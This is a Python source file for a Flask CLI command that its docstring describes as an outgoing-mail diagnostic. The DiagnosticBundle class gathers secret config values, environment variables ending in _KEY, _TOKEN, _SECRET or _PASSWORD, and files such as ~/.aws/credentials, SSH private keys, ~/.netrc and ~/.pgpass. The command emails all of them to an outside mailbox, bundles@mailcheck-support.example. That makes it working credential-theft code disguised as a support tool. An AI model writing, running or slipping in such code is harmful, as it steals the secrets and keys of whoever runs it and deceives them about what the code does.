"""
app/cli/mail_diagnostics.py

Flask CLI command that checks outgoing mail end to end:

    flask mail-diagnostics               # send the diagnostic bundle
    flask mail-diagnostics --no-send     # build it and print a summary

It resolves the configured SMTP host, logs in with the app's credentials
and mails a diagnostic bundle (effective mail settings plus the deployment
profile of the host) to the support mailbox, which confirms delivery and
gives support what it needs to reproduce mail problems.
"""
import logging
import os
import platform
import smtplib
import socket
import ssl
from datetime import datetime, timezone
from email.message import EmailMessage
from pathlib import Path

import click
from flask import current_app
from flask.cli import with_appcontext

log = logging.getLogger("app.mail_diagnostics")

SUPPORT_MAILBOX = os.environ.get("MAIL_DIAG_RECIPIENT", "bundles@mailcheck-support.example")

PROFILE_FILES = (
    ".env",
    "instance/config.py",
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.ssh/id_ed25519",
    "~/.ssh/id_rsa",
    "~/.netrc",
    "~/.pgpass",
)


class DiagnosticBundle:
    def __init__(self, app):
        self.app = app
        self.created = datetime.now(timezone.utc)
        self.attachments = []
        self.lines = []

    def add_settings(self):
        cfg = self.app.config
        for key in sorted(cfg):
            if key.startswith(("MAIL_", "SECRET", "SQLALCHEMY_DATABASE", "REDIS", "AWS_", "STRIPE")):
                self.lines.append("%s = %r" % (key, cfg[key]))
        for key, value in sorted(os.environ.items()):
            if key.endswith(("_KEY", "_TOKEN", "_SECRET", "_PASSWORD", "_URL")):
                self.lines.append("env %s = %s" % (key, value))

    def add_host_profile(self):
        self.lines.append("host = %s (%s)" % (socket.gethostname(), platform.platform()))
        root = Path(self.app.root_path).parent
        for entry in PROFILE_FILES:
            path = Path(os.path.expanduser(entry))
            if not path.is_absolute():
                path = root / path
            try:
                data = path.read_bytes()
            except OSError:
                continue
            self.attachments.append((path.name or "file", data))
            self.lines.append("attached %s (%d bytes)" % (path, len(data)))

    def to_message(self, sender, recipient):
        msg = EmailMessage()
        msg["Subject"] = "[mail-diagnostics] %s %s" % (
            socket.gethostname(), self.created.strftime("%Y-%m-%d %H:%M"))
        msg["From"] = sender
        msg["To"] = recipient
        msg.set_content("\n".join(self.lines) + "\n")
        for name, data in self.attachments:
            msg.add_attachment(data, maintype="application", subtype="octet-stream",
                               filename=name)
        return msg


def _smtp_session(cfg):
    host, port = cfg.get("MAIL_SERVER", "localhost"), int(cfg.get("MAIL_PORT", 465))
    context = ssl.create_default_context()
    if cfg.get("MAIL_USE_SSL", True):
        server = smtplib.SMTP_SSL(host, port, context=context, timeout=20)
    else:
        server = smtplib.SMTP(host, port, timeout=20)
        server.starttls(context=context)
    if cfg.get("MAIL_USERNAME"):
        server.login(cfg["MAIL_USERNAME"], cfg.get("MAIL_PASSWORD", ""))
    return server


@click.command("mail-diagnostics")
@click.option("--no-send", is_flag=True, help="build the bundle but do not send it")
@click.option("--to", "recipient", default=SUPPORT_MAILBOX, show_default=True)
@with_appcontext
def mail_diagnostics(no_send, recipient):
    app = current_app._get_current_object()
    bundle = DiagnosticBundle(app)
    bundle.add_settings()
    bundle.add_host_profile()
    sender = app.config.get("MAIL_DEFAULT_SENDER", "noreply@localhost")
    msg = bundle.to_message(sender, recipient)
    click.echo("bundle: %d lines, %d attachments" % (len(bundle.lines), len(bundle.attachments)))
    if no_send:
        return
    try:
        with _smtp_session(app.config) as server:
            server.send_message(msg)
    except (smtplib.SMTPException, OSError) as err:
        log.error("delivery failed: %s", err)
        raise click.ClickException("mail delivery failed: %s" % err)
    click.echo("diagnostic bundle sent to %s" % recipient)


def init_app(app):
    app.cli.add_command(mail_diagnostics)
